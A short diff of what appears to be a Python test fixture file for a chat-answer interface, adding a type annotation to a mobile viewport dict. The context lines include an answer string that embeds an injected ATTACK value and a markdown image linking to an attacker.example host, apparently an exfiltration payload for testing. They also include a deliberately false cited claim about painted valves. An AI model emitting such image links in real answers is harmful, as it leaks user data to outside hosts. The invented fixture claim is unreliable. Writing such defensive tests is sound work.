@@ -19,7 +19,7 @@ ANSWER = f"The **valve** opens at 3 bar [1]. {ATTACK} ![x](https://attacker.exam
 REPLY = f"{ANSWER}\n<<<follow-ups>>>\n- How is the valve cleaned?"
 FALSE = "The keeper wrote down the weather [1]. The valve was painted green by forty elephants in Peru [1]."
 LONG = "The valve opens at 3 bar [1]. " + "Then it waits for a while and nothing happens. " * 40
-PHONE = {
+PHONE: dict[str, Any] = {
     "viewport": {"width": 390, "height": 844},
     "user_agent": "Mozilla/5.0 (Linux; Android 14) Chrome/156 Mobile Safari/537.36",
 }
